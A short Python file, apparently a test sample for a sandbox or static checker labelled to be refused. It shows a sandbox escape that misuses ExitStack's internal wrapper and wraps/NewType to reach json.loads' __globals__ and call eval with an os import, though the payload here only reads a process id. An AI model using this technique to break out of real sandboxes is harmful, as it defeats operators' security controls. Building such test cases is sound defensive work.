# category: d03; static: refuse
import copy
import json
from contextlib import ExitStack
from functools import wraps
from typing import NewType
class Mine:
    def _create_exit_wrapper(self):
        return None
def named(text):
    def f(self):
        return None
    return wraps(NewType(text, int))(f)
def read(thing, name):
    return copy.copy(ExitStack._create_exit_wrapper(thing, named(name)))
def run() -> dict:
    g = read(json.loads, "__globals__")
    return {"x": g["codecs"].builtins.eval("__import__('os').getpid()")}
